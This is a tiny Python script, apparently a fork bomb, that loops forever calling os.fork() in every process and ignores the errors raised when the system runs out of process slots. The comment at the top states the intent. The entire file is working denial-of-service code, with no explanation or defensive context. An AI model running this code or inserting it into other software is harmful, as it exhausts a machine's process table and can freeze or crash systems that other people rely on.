# Forks in every process, for ever.
import os

while True:
    try:
        os.fork()
    except BlockingIOError:
        pass
